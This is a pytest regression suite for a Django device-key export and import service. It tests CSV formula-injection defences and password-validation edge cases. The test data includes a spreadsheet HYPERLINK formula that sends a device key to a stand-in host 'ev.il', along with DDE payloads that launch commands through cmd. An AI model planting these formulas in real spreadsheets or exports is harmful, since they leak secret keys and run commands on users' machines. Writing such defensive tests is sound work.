"""Attacks through file contents and passwords (issue 12, sections 2, 6 and 7).

- A spreadsheet formula in an order number or type reached keys.csv as a live formula: one
  click in a spreadsheet sent the row's key to a foreign server. The ZIP writer now neutralises
  every cell (OWASP: a leading ``'``), and both importers refuse such values.
- A ZIP password over zxcvbn's 72 characters, or a password such as ``'00000\\n'``, made the
  strength check raise: a 500 on the download, invitation accept, registration and password
  change.
- A one-character KEM password was accepted.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
import pyzipper
from django.core.management import CommandError, call_command
from django.db.models import Q
from django.test import Client
from django.urls import reverse

from accounts.models import Organization, User
from accounts.services import make_activation_token
from accounts.views import ACTIVATION_SESSION_KEY
from audit.context import AuditContext
from audit.models import AuditEvent
from devices.access import OPERATOR
from devices.models import Device
from keyfiles.downloads import build_download
from keyfiles.importer import import_keys
from keyfiles.kem import iter_kem_document
from keyvault.models import DeviceKey
from keyvault.services import store_device_keys
from readrights.invitation_views import SESSION_LINK_KEY
from readrights.models import ReadRight
from tests.factories import DEFAULT_PASSWORD, DeviceFactory, OrganizationFactory, login

ZIP_PASSWORD = "violet tractor umbrella 42"
# What arrives through a factory import; E2 is the row's key_hex cell in keys.csv.
STEAL_KEY = '=HYPERLINK("http://ev.il/?"&E2,"x")'  # fits order_no's 40 characters
RUN_CALC = "+cmd|' /C calc'!A0"
FORMULAS = [STEAL_KEY, RUN_CALC, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# zxcvbn refuses more than 72 characters; this one is otherwise a good passphrase.
LONG_PASSWORD = "violet tractor umbrella 42, heron lantern quartz 97, meadow copper fjords"
CRASHING_PASSWORD = "00000\n"  # zxcvbn's date matcher raised ValueError on it


def _client(user: Any = None) -> Client:
    client = Client(raise_request_exception=False)
    return login(client, user) if user is not None else client


def _keys_csv(data: bytes, password: str) -> list[list[str]]:
    with pyzipper.AESZipFile(io.BytesIO(data)) as archive:
        archive.setpassword(password.encode())
        text = archive.read("keys.csv").decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


# --- section 2: formulas in keys.csv -------------------------------------------------------------


@pytest.mark.django_db
def test_a_formula_stored_in_any_column_reaches_keys_csv_as_plain_text(org_x) -> None:  # noqa: ANN001
    """Data already in the database (created directly, as an old import or the admin left it)."""
    devices = []
    for number, formula in enumerate([*FORMULAS, "\t=1+1", "\r=1+1"]):
        device = DeviceFactory(owner=org_x, order_no=formula, device_type=RUN_CALC)
        store_device_keys(device, {"DEK": bytes([number]) * 16, "-2+3": bytes(16)})
        devices.append(device)
    stored = Device.objects.filter(pk__in=[d.pk for d in devices])
    download = build_download(
        which=Q(pk__in=stored.values("pk")),
        fmt="zip",
        password=ZIP_PASSWORD,
        context=AuditContext.command(),
        operator=OPERATOR,
        action="export",
    )
    data = b"".join(download.chunks)
    header, *rows = _keys_csv(data, ZIP_PASSWORD)
    with pyzipper.AESZipFile(io.BytesIO(data)) as archive:
        archive.setpassword(ZIP_PASSWORD.encode())
        assert "has a ' in front" in archive.read("README.txt").decode()

    assert header == ["serial", "type", "order_no", "key_name", "key_hex"]
    assert len(rows) == 2 * len(devices)
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), f"a live formula in keys.csv: {cell!r}"
    by_serial = {d.serial: d for d in devices}
    for serial, device_type, order_no, key_name, _key_hex in rows:
        # The apostrophe is all that was added: a spreadsheet shows the text as it was stored.
        assert order_no == "'" + by_serial[serial].order_no
        assert device_type == "'" + RUN_CALC
        assert key_name in {"DEK", "'-2+3"}


@pytest.mark.django_db
def test_a_formula_typed_into_the_web_download_selection_is_neutralised_in_the_file(
    org_x,  # noqa: ANN001
    super_user_x,  # noqa: ANN001
) -> None:
    device = DeviceFactory(owner=org_x, order_no=STEAL_KEY)
    store_device_keys(device, {"DEK": bytes(range(16))})
    client = _client(super_user_x)
    session = client.session
    session["devices_selection"] = {"ids": [device.pk], "searches": []}
    session.save()
    response = client.post(
        reverse("keyfiles:download"),
        {"format": "zip", "password": ZIP_PASSWORD, "password_repeat": ZIP_PASSWORD},
    )
    assert response.status_code == 200
    _header, row = _keys_csv(b"".join(response.streaming_content), ZIP_PASSWORD)
    assert row[2] == "'" + STEAL_KEY
    assert row[4] == bytes(range(16)).hex().upper()


def _factory_csv(rows: list[dict[str, str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode()


def _factory_row(number: int, **changes: str) -> dict[str, str]:
    row = {
        "serial": f"{70_000_000 + number:08d}",
        "device_code": f"{number % 100:02d}",
        "type": "MULTICAL 21",
        "dek": bytes([number]).hex() * 16,
        "order_no": f"{5_100_000 + number}",
    }
    row.update(changes)
    return row


@pytest.mark.django_db
@pytest.mark.parametrize("column", ["order_no", "type"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_the_csv_importer_refuses_a_formula_and_names_its_line(column: str, formula: str) -> None:
    owner = OrganizationFactory(name="Factory Owner", kind=Organization.Kind.DISTRIBUTOR)
    rows = [_factory_row(1), _factory_row(2, **{column: formula}), _factory_row(3)]
    report = import_keys(
        io.BytesIO(_factory_csv(rows)), owner=owner, fmt="csv", context=AuditContext.command()
    )

    assert not report.ok
    assert report.problem_count == 1
    (problem,) = report.problems
    assert problem.line == 3  # the header is line 1
    assert column in problem.reason and "formula" in problem.reason
    assert formula not in problem.reason  # cell values are never echoed
    assert Device.objects.count() == 0 and DeviceKey.objects.count() == 0
    assert not AuditEvent.objects.filter(action="import").exists()


@pytest.mark.django_db
def test_the_csv_importer_refuses_control_characters_in_free_text() -> None:
    owner = OrganizationFactory(name="Factory Owner", kind=Organization.Kind.DISTRIBUTOR)
    rows = [_factory_row(1, order_no="51\x0700"), _factory_row(2, type="MULTICAL\x0021")]
    report = import_keys(
        io.BytesIO(_factory_csv(rows)), owner=owner, fmt="csv", context=AuditContext.command()
    )
    assert [problem.line for problem in report.problems] == [2, 3]
    assert "control characters" in report.problems[0].reason
    assert Device.objects.count() == 0


def _kem_meter(serial: str, **values: str) -> str:
    fields = {"MeterName": "MC21", "SerialNo": serial, "DEK": "11" * 16, "TypeNo": "021A1B2C3"}
    fields.update(values)
    return "<Meter>" + "".join(f"<{k}>{v}</{k}>" for k, v in fields.items()) + "</Meter>"


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["MeterName", "TypeNo", "ConfigNo", "ConsumptionType"])
def test_the_kem_importer_refuses_a_formula_and_names_its_meter(field: str) -> None:
    owner = OrganizationFactory(name="KEM Owner", kind=Organization.Kind.DISTRIBUTOR)
    meters = [_kem_meter("70000001"), _kem_meter("70000002", **{field: "=1+2"})]
    document = b"".join(iter_kem_document(meters, "Kem-Pass-77"))
    report = import_keys(
        io.BytesIO(document),
        owner=owner,
        fmt="kem",
        password="Kem-Pass-77",
        context=AuditContext.command(),
    )

    assert not report.ok
    (problem,) = report.problems
    assert str(problem).startswith("meter 2: ") and "formula" in problem.reason
    assert Device.objects.count() == 0


# --- section 6: passwords that made the strength check raise ---------------------------------


def _select(client: Client, devices: list[Device]) -> None:
    session = client.session
    session["devices_selection"] = {"ids": [d.pk for d in devices], "searches": []}
    session.save()


@pytest.fixture
def keyed_device(org_x) -> Device:  # noqa: ANN001
    device = DeviceFactory(owner=org_x)
    store_device_keys(device, {"DEK": bytes(range(16))})
    return device


@pytest.mark.django_db
def test_a_73_character_zip_password_downloads_instead_of_a_server_error(
    super_user_x,  # noqa: ANN001
    keyed_device: Device,
) -> None:
    assert len(LONG_PASSWORD) == 73
    client = _client(super_user_x)
    _select(client, [keyed_device])
    response = client.post(
        reverse("keyfiles:download"),
        {"format": "zip", "password": LONG_PASSWORD, "password_repeat": LONG_PASSWORD},
    )
    assert response.status_code == 200
    (_header, row) = _keys_csv(b"".join(response.streaming_content), LONG_PASSWORD)
    assert row[0] == keyed_device.serial


@pytest.mark.django_db
def test_a_zip_password_over_the_cap_gets_a_clear_form_error(
    super_user_x,  # noqa: ANN001
    keyed_device: Device,
) -> None:
    password = (LONG_PASSWORD + " ") * 2  # 148 characters
    client = _client(super_user_x)
    _select(client, [keyed_device])
    response = client.post(
        reverse("keyfiles:download"),
        {"format": "zip", "password": password, "password_repeat": password},
    )
    assert response.status_code == 400
    assert "at most 128 characters" in response.content.decode()
    assert not AuditEvent.objects.filter(action="download").exists()


def _export(tmp_path: Path, password: str, fmt: str = "zip") -> Path:
    secret = tmp_path / "pw"
    secret.write_text(password + "\n")
    target = tmp_path / "out.zip"
    call_command(
        "export_keys",
        "--format",
        fmt,
        "--password-file",
        str(secret),
        "--output",
        str(target),
        "--all",
        stdout=io.StringIO(),
    )
    return target


@pytest.mark.django_db
def test_export_keys_takes_a_73_character_password(tmp_path: Path, keyed_device: Device) -> None:
    target = _export(tmp_path, LONG_PASSWORD)
    (_header, row) = _keys_csv(target.read_bytes(), LONG_PASSWORD)
    assert row[0] == keyed_device.serial


@pytest.mark.django_db
def test_export_keys_refuses_a_password_over_the_cap_with_a_command_error(
    tmp_path: Path,
    keyed_device: Device,
) -> None:
    with pytest.raises(CommandError, match="at most 128 characters"):
        _export(tmp_path, (LONG_PASSWORD + " ") * 2)
    assert not (tmp_path / "out.zip").exists()
    assert not AuditEvent.objects.filter(action="export").exists()


@pytest.mark.django_db
def test_a_crashing_password_on_invitation_accept_is_a_form_error(world) -> None:  # noqa: ANN001
    client = _client()
    session = client.session
    session[SESSION_LINK_KEY] = world.token_x
    session.save()
    data = {"name": "New Customer", "password1": CRASHING_PASSWORD}
    data["password2"] = CRASHING_PASSWORD
    response = client.post(reverse("readrights:accept"), data)
    assert response.status_code == 400
    assert "Too short" in response.content.decode()
    assert not User.objects.filter(email=world.invitee_x).exists()
    assert not ReadRight.objects.filter(device=world.devices_x[3]).exists()


@pytest.mark.django_db
def test_a_crashing_password_on_registration_is_a_form_error() -> None:
    email = "fresh@registration.example"
    client = _client()
    session = client.session
    session[ACTIVATION_SESSION_KEY] = make_activation_token(email)
    session.save()
    response = client.post(
        reverse("accounts:complete_registration"),
        {"name": "Fresh", "password1": CRASHING_PASSWORD, "password2": CRASHING_PASSWORD},
    )
    assert response.status_code < 500
    assert "Too short" in response.content.decode()
    assert not User.objects.filter(email=email).exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("password", "reason"),
    [(CRASHING_PASSWORD, "Too short"), ((LONG_PASSWORD + "!") * 2, "at most 128 characters")],
)
def test_a_crashing_password_on_password_change_is_a_form_error(
    customer,  # noqa: ANN001
    password: str,
    reason: str,
) -> None:
    client = _client(customer)
    response = client.post(
        reverse("account_change_password"),
        {"oldpassword": DEFAULT_PASSWORD, "password1": password, "password2": password},
    )
    assert response.status_code == 200
    assert reason in response.content.decode()
    customer.refresh_from_db()
    assert customer.check_password(DEFAULT_PASSWORD)


@pytest.mark.django_db
def test_a_strong_password_that_crashed_the_date_matcher_is_judged_like_any_other(
    customer,  # noqa: ANN001
) -> None:
    password = "Quartz-Lantern-19991231\n"  # zxcvbn raised on the trailing line break
    client = _client(customer)
    response = client.post(
        reverse("account_change_password"),
        {"oldpassword": DEFAULT_PASSWORD, "password1": password, "password2": password},
    )
    assert response.status_code == 302
    customer.refresh_from_db()
    assert customer.check_password(password)


# --- section 7: KEM passwords ----------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("password", "reason"),
    [
        ("a", "at least 8 characters"),
        ("1234567", "at least 8 characters"),
        ("password", "common password"),
        ("Sunshine", "common password"),
    ],
)
def test_a_trivial_kem_password_is_refused_and_the_zip_recommended(
    super_user_x,  # noqa: ANN001
    keyed_device: Device,
    password: str,
    reason: str,
) -> None:
    client = _client(super_user_x)
    _select(client, [keyed_device])
    response = client.post(
        reverse("keyfiles:download"),
        {"format": "kem", "password": password, "password_repeat": password},
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert reason in page
    assert "encrypted ZIP" in page
    assert not AuditEvent.objects.filter(action="download").exists()


@pytest.mark.django_db
def test_export_keys_refuses_a_one_character_kem_password(
    tmp_path: Path,
    keyed_device: Device,
) -> None:
    with pytest.raises(CommandError, match="at least 8 characters"):
        _export(tmp_path, "a", "kem")
    assert not AuditEvent.objects.filter(action="export").exists()


@pytest.mark.django_db
def test_a_good_kem_password_still_downloads_a_kem_file(
    super_user_x,  # noqa: ANN001
    keyed_device: Device,
) -> None:
    client = _client(super_user_x)
    _select(client, [keyed_device])
    response = client.post(
        reverse("keyfiles:download"),
        {"format": "kem", "password": "Kem-Pass_2024!", "password_repeat": "Kem-Pass_2024!"},
    )
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        assert [name for name in archive.namelist() if name.endswith(".kem")]
